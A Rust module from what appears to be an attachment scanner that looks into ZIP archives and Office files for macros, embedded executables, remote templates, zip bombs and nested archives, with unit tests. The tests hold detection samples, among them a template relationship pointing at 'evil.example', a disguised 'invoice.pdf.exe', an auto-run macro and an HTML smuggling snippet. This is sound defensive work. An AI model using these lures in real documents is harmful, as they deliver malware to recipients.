//! ZIP archives and the office documents that are ones.

use miniz_oxide::inflate::decompress_to_vec_with_limit;
use rawzip::{CompressionMethod, ZipArchive, ZipFileHeaderRecord, ZipSliceArchive};

use super::{Budget, Inspection};
use crate::assessment::UnscannableCause;
use crate::file_name::{self, FileKind};
use crate::limits::Limits;
use crate::message::AttachmentFindingKind;

/// Whether an archive ends here.
pub(super) fn is_at_end(bytes: &[u8]) -> bool {
    ZipArchive::from_slice(bytes)
        .is_ok_and(|archive| matches!(archive.entries().next_entry(), Ok(Some(_))))
}

pub(super) fn inspect(
    bytes: &[u8],
    limits: &Limits,
    budget: &mut Budget,
    inspection: &mut Inspection,
) {
    if budget.depth == 0 {
        inspection.cannot_scan(UnscannableCause::Limit);
        return;
    }
    budget.depth -= 1;
    entries(bytes, limits, budget, inspection);
    budget.depth += 1;
}

fn entries(bytes: &[u8], limits: &Limits, budget: &mut Budget, inspection: &mut Inspection) {
    let Ok(archive) = ZipArchive::from_slice(bytes) else {
        inspection.cannot_scan(UnscannableCause::Damaged);
        return;
    };
    let mut zip = Zip { archive: &archive, limits, budget, declared: 0 };
    let mut entries = archive.entries();
    for index in 0_usize.. {
        match entries.next_entry() {
            Ok(Some(entry)) => {
                // Names cost nothing, so all of them are judged.
                let name = zip.name(&entry, inspection);
                if index < limits.archive_entries {
                    zip.content(&name, &entry, inspection);
                } else {
                    inspection.cannot_scan(UnscannableCause::Limit);
                }
            }
            Ok(None) => break,
            Err(_) => {
                inspection.cannot_scan(UnscannableCause::Damaged);
                break;
            }
        }
    }
    zip.size(bytes.len(), inspection);
}

struct Zip<'a, 'b> {
    archive: &'a ZipSliceArchive<&'b [u8]>,
    limits: &'a Limits,
    budget: &'a mut Budget,
    /// How many bytes the archive says it holds.
    declared: u64,
}

impl Zip<'_, '_> {
    fn name(&mut self, entry: &ZipFileHeaderRecord<'_>, inspection: &mut Inspection) -> String {
        let name = String::from_utf8_lossy(entry.file_path().as_bytes()).into_owned();
        self.declared = self.declared.saturating_add(entry.uncompressed_size_hint());
        if entry.flags().is_encrypted() {
            inspection.add(AttachmentFindingKind::Encrypted, &name);
            inspection.cannot_scan(UnscannableCause::Encrypted);
        }
        if !entry.is_dir() && file_name::kind(&name) == Some(FileKind::Program) {
            inspection.add(AttachmentFindingKind::ArchiveExecutable, &name);
        }
        if name.to_ascii_lowercase().starts_with("xl/macrosheets/") {
            inspection.add(AttachmentFindingKind::Macro, "Excel 4 macro sheet");
        }
        name
    }

    /// Looks into a file by its first bytes: a macro project has any name its document gives it.
    fn content(
        &mut self,
        name: &str,
        entry: &ZipFileHeaderRecord<'_>,
        inspection: &mut Inspection,
    ) {
        let lower = name.to_ascii_lowercase();
        if lower.ends_with("vbaproject.bin") {
            inspection.add(AttachmentFindingKind::Macro, "VBA project");
        }
        if lower.ends_with(".xml.rels") {
            self.relations(entry, inspection);
        } else if super::is_worth_a_look(name, &self.head(entry)) {
            if let Some(content) = self.inflate(entry, inspection) {
                super::look(name, &content, self.limits, self.budget, inspection);
            }
        } else if ARCHIVES.iter().any(|extension| lower.ends_with(extension)) {
            inspection.cannot_scan(UnscannableCause::Unsupported);
        }
    }

    /// The first bytes of a file, as far as they can be read.
    fn head(&self, entry: &ZipFileHeaderRecord<'_>) -> Vec<u8> {
        let found = self.archive.get_entry(entry.wayfinder());
        let packed = found.as_ref().map(rawzip::ZipSliceEntry::data).unwrap_or_default();
        match entry.compression_method() {
            CompressionMethod::DEFLATE => {
                decompress_to_vec_with_limit(packed, HEAD).unwrap_or_else(|error| error.output)
            }
            _ => packed.iter().take(HEAD).copied().collect(),
        }
    }

    /// Word loads the template that an external relation of this type names, macros and all.
    fn relations(&mut self, entry: &ZipFileHeaderRecord<'_>, inspection: &mut Inspection) {
        let Some(relations) = self.inflate(entry, inspection) else { return };
        let relations = String::from_utf8_lossy(&relations).to_ascii_lowercase();
        if relations.contains("/relationships/vbaproject") {
            inspection.add(AttachmentFindingKind::Macro, "VBA project");
        }
        let mut elements =
            relations.split('<').filter(|element| element.starts_with("relationship "));
        let remote = elements.any(|element| {
            element.contains("/attachedtemplate")
                && element.contains("external")
                && element.contains("://")
        });
        if remote {
            inspection.add(AttachmentFindingKind::RemoteTemplate, "attached template");
        }
    }

    fn inflate(
        &mut self,
        entry: &ZipFileHeaderRecord<'_>,
        inspection: &mut Inspection,
    ) -> Option<Vec<u8>> {
        if entry.flags().is_encrypted() {
            return None;
        }
        let inflated = self
            .archive
            .get_entry(entry.wayfinder())
            .map_err(|_| UnscannableCause::Damaged)
            .and_then(|found| match entry.compression_method() {
                CompressionMethod::STORE if found.data().len() <= self.budget.room => {
                    Ok(found.data().to_vec())
                }
                CompressionMethod::STORE => Err(UnscannableCause::Limit),
                CompressionMethod::DEFLATE => {
                    decompress_to_vec_with_limit(found.data(), self.budget.room)
                        .map_err(inflate_cause)
                }
                _ => Err(UnscannableCause::Unsupported),
            });
        match inflated {
            Ok(bytes) => {
                self.budget.room -= bytes.len();
                Some(bytes)
            }
            Err(cause) => {
                inspection.cannot_scan(cause);
                None
            }
        }
    }

    fn size(&self, packed: usize, inspection: &mut Inspection) {
        let packed = u64::try_from(packed).unwrap_or(u64::MAX);
        if self.declared > BOMB_BYTES && self.declared / BOMB_RATIO > packed {
            inspection.add(
                AttachmentFindingKind::Bomb,
                format!("{packed} bytes say they hold {}", self.declared),
            );
        }
    }
}

#[expect(clippy::needless_pass_by_value, reason = "the shape `map_err` wants")]
fn inflate_cause(error: miniz_oxide::inflate::DecompressError) -> UnscannableCause {
    match error.status {
        miniz_oxide::inflate::TINFLStatus::HasMoreOutput => UnscannableCause::Limit,
        _ => UnscannableCause::Damaged,
    }
}

const HEAD: usize = 64;
const ARCHIVES: [&str; 6] = [".rar", ".7z", ".gz", ".cab", ".tar", ".xz"];
const BOMB_BYTES: u64 = 64 << 20;
const BOMB_RATIO: u64 = 50;

#[cfg(test)]
mod tests {
    use super::*;
    use crate::attachment::ole::tests::project;
    use rawzip::ZipArchiveWriter;
    use std::io::Write;

    fn archive(files: &[(&str, &[u8])]) -> Vec<u8> {
        let mut writer = ZipArchiveWriter::new(Vec::new());
        for (name, content) in files {
            let (mut entry, config) = writer.new_file(*name).start().unwrap();
            let mut data = config.wrap(&mut entry);
            data.write_all(content).unwrap();
            let (_, descriptor) = data.finish().unwrap();
            entry.finish(descriptor).unwrap();
        }
        writer.finish().unwrap()
    }

    fn open(bytes: &[u8], limits: &Limits, inspection: &mut Inspection) {
        let mut budget = Budget { room: limits.inflated_bytes, depth: 2 };
        inspect(bytes, limits, &mut budget, inspection);
    }

    #[track_caller]
    fn check(files: &[(&str, &[u8])], expected: &[AttachmentFindingKind]) {
        let mut inspection = Inspection::default();
        open(&archive(files), &Limits::default(), &mut inspection);
        let kinds: Vec<_> = inspection.findings.iter().map(|found| found.kind).collect();
        assert_eq!(kinds, expected, "{:?}", inspection.unscannable);
    }

    #[test]
    fn looks_into_archives() {
        use AttachmentFindingKind as Kind;
        let auto =
            project("Attribute VB_Name = \"ThisDocument\"\r\nSub Document_Open()\r\nEnd Sub\r\n");
        let remote = br#"<Relationships><Relationship Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>"#;
        let local = br#"<Relationships><Relationship Type="http://x/attachedTemplate" Target="Normal.dotm"/></Relationships>"#;
        check(&[("notes.txt", b"hello")], &[]);
        check(&[("invoice.pdf.exe", b"MZ")], &[Kind::ArchiveExecutable]);
        check(&[("word/vbaProject.bin", &auto)], &[Kind::Macro, Kind::MacroAutoExec]);
        check(&[("xl/macrosheets/sheet1.xml", b"<x/>")], &[Kind::Macro]);
        check(&[("xl/worksheets/sheet1.xml", b"<x/>")], &[]);
        check(&[("word/_rels/settings.xml.rels", remote)], &[Kind::RemoteTemplate]);
        check(&[("word/_rels/settings.xml.rels", local)], &[]);
        check(&[("word/photo.jpg", &auto)], &[Kind::Macro, Kind::MacroAutoExec]);
        let macros = br#"<Relationship Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="x.bin"/>"#;
        check(&[("word/_rels/document.xml.rels", macros)], &[Kind::Macro]);
        let document = archive(&[("word/vbaProject.bin", &auto)]);
        check(&[("invoice.docm", &document)], &[Kind::Macro, Kind::MacroAutoExec]);
        check(&[("invoice.doc", &auto)], &[Kind::Macro, Kind::MacroAutoExec]);
        let program = archive(&[("a.exe", b"MZ")]);
        check(&[("inner.zip", &program)], &[Kind::ArchiveExecutable]);
        let junk = [b"junk", &program[..]].concat();
        assert_eq!(
            crate::attachment::inspect("a.zip", &junk, &Limits::default()).findings.len(),
            1
        );
        let page = b"<script>URL.createObjectURL(new Blob([atob('x')]))</script>";
        check(&[("invoice.html", page)], &[Kind::HtmlSmuggling]);
    }

    #[test]
    fn the_limit_of_entries_is_named_when_it_is_passed() {
        let files: Vec<(&str, &[u8])> = vec![("a.txt", b"a"), ("b.txt", b"b")];
        for (entries, expected) in [(2, &[][..]), (1, &[UnscannableCause::Limit])] {
            let limits = Limits { archive_entries: entries, ..Limits::default() };
            let mut inspection = Inspection::default();
            open(&archive(&files), &limits, &mut inspection);
            assert_eq!(inspection.unscannable, expected);
        }
        let mut files: Vec<(&str, &[u8])> = vec![("a.txt", b"a"); 5];
        files.push(("a.exe", b"MZ"));
        let limits = Limits { archive_entries: 2, ..Limits::default() };
        let mut inspection = Inspection::default();
        open(&archive(&files), &limits, &mut inspection);
        assert_eq!(inspection.findings.len(), 1);
    }

    #[test]
    fn archives_inside_each_other_end_at_a_limit() {
        let mut bytes = archive(&[("a.txt", b"a")]);
        for (depth, expected) in [(1, &[][..]), (2, &[][..]), (3, &[UnscannableCause::Limit])] {
            let mut inspection = Inspection::default();
            open(&bytes, &Limits::default(), &mut inspection);
            assert_eq!(inspection.unscannable, expected, "{depth}");
            bytes = archive(&[("inner.zip", &bytes)]);
        }
    }

    #[test]
    fn all_projects_of_an_archive_share_what_may_be_decompressed() {
        let long = project(&format!("Attribute VB_Name\r\n{}", "' note\r\n".repeat(1_000)));
        let auto = project("Attribute VB_Name\r\nSub AutoOpen()\r\n");
        let inflated_bytes = 2 * long.len() + auto.len();
        let limits = Limits { inflated_bytes, ..Limits::default() };
        let mut inspection = Inspection::default();
        let files: Vec<(&str, &[u8])> = vec![
            ("1/vbaProject.bin", &long),
            ("2/vbaProject.bin", &long),
            ("3/vbaProject.bin", &auto),
        ];
        open(&archive(&files), &limits, &mut inspection);
        assert!(inspection.unscannable.contains(&UnscannableCause::Limit), "{inspection:?}");
    }

    #[test]
    fn damaged_archives_are_named() {
        let mut inspection = Inspection::default();
        open(b"PK\x03\x04", &Limits::default(), &mut inspection);
        assert_eq!(inspection.unscannable, [UnscannableCause::Damaged]);
    }
}
